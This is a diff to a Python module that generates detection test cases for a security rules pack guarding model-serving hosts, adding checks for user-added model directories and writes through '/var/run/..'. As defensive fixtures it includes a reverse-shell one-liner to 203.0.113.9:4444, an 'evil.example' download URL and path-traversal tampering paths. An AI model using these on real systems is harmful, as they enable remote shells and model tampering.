@@ -1,7 +1,9 @@
 """List-completeness cases: one derived case per item of each list (and list-mirroring macro) of the
 shipped pack that a rule's detection depends on, built from the **pack's** items, not the loaded
 ones. A tuning that replaces such a list without an item, or excepts an item (a `.pkl` model load, the
-huggingface-cli download tool), fails on the case named after that item.
+huggingface-cli download tool), fails on the case named after that item. The model dirs' cases are
+also built for every dir the user's files add (the list as loaded): a dir appended without its
+`/proc` glob or its '..' glob fails on the case named after it.
 
 Only lists whose items make a rule fire are here (download tools, shells, interpreters, script
 runners, model extensions, model dirs and the directories above them, writable exec dirs, token
@@ -50,6 +52,7 @@ from responder.rulespack.recorded import (
     Recorded,
 )
 
+MODEL_DIRS = "serving_guard_model_dirs"
 OUTSIDE_TOOL = "/opt/tools"  # a directory no list names: the item alone must match
 ONE_LINER = 's=socket();s.connect(("203.0.113.9",4444));dup2(s,0);exec("/bin/sh")'
 
@@ -72,6 +75,15 @@ class PackLists:
             raise ValueError(f"the pack defines no macro {macro}: the list cases were written for it")
         operands = keywords(parse(self.ruleset.macros[macro].condition), self.ruleset.list_items)
         return tuple(k.value for k in operands if k.field == "fd.name" and k.op == "endswith")
+
+
+def _model_dirs(lists: PackLists, loaded: RuleSet | None) -> tuple[str, ...]:
+    """The pack's model dirs, then those the loaded rules (the user's files) add: a dir of the user's
+    must hold as the pack's do."""
+    items = lists.items(MODEL_DIRS)
+    if loaded is None or MODEL_DIRS not in loaded.list_items:
+        return items
+    return (*items, *dict.fromkeys(item for item in loaded.list_items[MODEL_DIRS] if item not in items))
 
 
 def read_pack_lists(pack: Path) -> PackLists:
@@ -149,17 +161,35 @@ def _token_case(group: str, item: str, path: str) -> DerivedCase:
     )
 
 
-def _files(lists: PackLists) -> list[DerivedCase]:
+def _dotted_write(group: str, item: str) -> DerivedCase:
+    """A model dir's config written through /var/run/.. (the kernel follows /var/run to /run, so
+    the write lands in the dir; libsinsp resolves the '..' as text and shows /var<dir>/...)."""
+    recorded, recorded_path = MODEL_WRITTEN
+    shown = f"/var{item}/m/config.pbtxt"
+    return case(
+        group,
+        item,
+        recorded,
+        opens_instead(recorded, recorded_path, f"/var/run/..{item}/m/config.pbtxt"),
+        fires(TAMPER, True, opened(shown)),
+        witness=(shows(opened(shown), count=None),),
+    )
+
+
+def _files(lists: PackLists, loaded: RuleSet | None = None) -> list[DerivedCase]:
     cases = []
     group = _group("serving_guard_model_extensions", "loaded from /tmp is a model load")
     for ext in lists.items("serving_guard_model_extensions"):
         cases.append(_opens(group, MODEL_LOAD, ext, MODEL_LOADED, f"/tmp/evil/model{ext}"))
-    group = _group("serving_guard_model_dirs", "written is tampering")
-    for item in lists.items("serving_guard_model_dirs"):
+    model_dirs = _model_dirs(lists, loaded)
+    group = _group(MODEL_DIRS, "written is tampering")
+    for item in model_dirs:
         cases.append(_opens(group, TAMPER, item, MODEL_WRITTEN, f"{item}/m/config.pbtxt"))
-    group = _group("serving_guard_model_dirs", "written through /proc/1/root is tampering")
-    for item in lists.items("serving_guard_model_dirs"):
+    group = _group(MODEL_DIRS, "written through /proc/1/root is tampering")
+    for item in model_dirs:
         cases.append(_opens(group, TAMPER, item, MODEL_WRITTEN, f"/proc/1/root{item}/m/config.pbtxt"))
+    group = _group(MODEL_DIRS, "written through /var/run/.. is tampering")
+    cases += [_dotted_write(group, item) for item in model_dirs]
     group = _group("serving_guard_model_dir_ancestors", "renamed away is tampering")
     for item in lists.items("serving_guard_model_dir_ancestors"):
         cases.append(
@@ -194,9 +224,10 @@ def _exec_dirs(lists: PackLists) -> list[DerivedCase]:
     ]
 
 
-def list_cases(pack: RuleSet) -> list[DerivedCase]:
+def list_cases(pack: RuleSet, loaded: RuleSet | None = None) -> list[DerivedCase]:
     """The list-completeness cases of the pack ``pack``, as loaded (the shipped one: its items are
-    the ones no tuning may lose)."""
+    the ones no tuning may lose); with ``loaded`` (the rules `rules test` runs: the pack and the
+    user's files), also a model dir case for each dir the user's files add."""
     lists = PackLists(pack)
     url = ["evil.example/x"]
     cases = [
@@ -229,4 +260,4 @@ def list_cases(pack: RuleSet) -> list[DerivedCase]:
             ["/tmp/x.script"],
         ),
     ]
-    return [*cases, *_exec_dirs(lists), *_files(lists)]
+    return [*cases, *_exec_dirs(lists), *_files(lists, loaded)]
